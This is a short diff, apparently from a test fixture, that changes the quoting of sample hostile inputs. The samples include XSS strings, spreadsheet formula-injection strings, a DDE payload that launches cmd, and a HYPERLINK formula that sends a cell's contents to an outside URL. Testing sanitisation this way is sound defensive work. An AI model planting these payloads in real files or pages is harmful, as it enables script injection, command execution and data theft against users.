@@ -40,7 +40,7 @@ TEMPLATE = [
 MARKUP = [
     "<script>alert('xss')</script>",
     "<img src=x onerror=alert(1)>",
-    "\"><svg onload=alert(1)>",
+    '"><svg onload=alert(1)>',
     "</script><script>alert(2)</script>",
     "<!--",
     "&lt;b&gt;entity&lt;/b&gt; & ampersand",
@@ -61,13 +61,13 @@ FORMULA = [
     "@SUM(9)",
     "\t=1+2",
     "\r=1+2",
-    "\x01=HYPERLINK(\"" + OUTSIDE_URL + "?d=\"&C2,\"详情\")",
+    '\x01=HYPERLINK("' + OUTSIDE_URL + '?d="&C2,"详情")',
     "\u200b=1+2",
     "\ufeff=cmd|' /C calc'!A0",
     "\u202e=1+2",
     "\u00a0=1+2",
     "＝1+2",
-    "=DDE(\"cmd\";\"/C calc\";\"A0\")",
+    '=DDE("cmd";"/C calc";"A0")',
 ]
 
 TEXT = [
